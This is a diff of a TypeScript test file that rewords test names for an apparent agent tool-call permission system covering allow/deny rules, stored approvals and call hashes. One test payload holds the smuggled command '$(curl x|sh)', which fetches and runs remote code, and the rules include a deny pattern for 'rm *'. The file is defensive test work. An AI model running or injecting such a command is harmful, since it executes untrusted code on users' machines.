@@ -64,7 +64,7 @@ async function answer(state: SessionRun, at: number, result: Json): Promise<void
   await settle();
 }
 
-test("[S80] a rule answers the requests of every member, and the log says on the call which rule it was", async () => {
+test("[S80] a rule answers the requests of every member, and the log names the rule on the call", async () => {
   const rules = [rule("allow", "shell: git status*"), rule("deny", "shell: rm *")];
   const state = await startSession(
     {
@@ -170,7 +170,7 @@ test("[S82] a rule that refuses wins over what was allowed for the session, and 
   ]);
 });
 
-test("a yes for always is kept by the source, and one that cannot be kept holds for the session and says so", async () => {
+test("a permanent grant is stored; when it cannot be stored, it holds for the session and the user is warned", async () => {
   const source = sourceOf();
   const asks = wanting(approval("write", '{"path":"/project/nowhere/a.txt"}'), approval("shell", "ls"));
   const state = await startSession({ ada: asks }, { ...writable, approvals: source });
@@ -214,7 +214,7 @@ test("[S84] what an agent itself offers under the table's names widens nothing",
   expect(state.events("ui_request")).toHaveLength(2);
 });
 
-test("an approval whose hash is not of its call is refused, whatever a rule would say", async () => {
+test("an approval whose hash does not match its call is refused, whatever the rules say", async () => {
   const state = await startSession(
     { ada: wanting({ ...approval("shell", "git status"), callHash: "0".repeat(64) }) },
     { ...writable, approvals: sourceOf([rule("allow", "shell")]) },
@@ -224,7 +224,7 @@ test("an approval whose hash is not of its call is refused, whatever a rule woul
   expect(state.events("warning").map(({ code }) => code)).toEqual(["request_refused"]);
 });
 
-test("only the built-in agent's calls are read in its own form; a command that looks like one is a command", async () => {
+test("only calls of the built-in agent are parsed in its own format; a command that resembles one stays a command", async () => {
   const call = '{"args":{},"bound":{"path":"src/a.ts"},"cwd":"x","member":"x","tool":"write","z":"$(curl x|sh)"}';
   const rules = [rule("allow", "edit: src/**")];
   const state = await startSession(
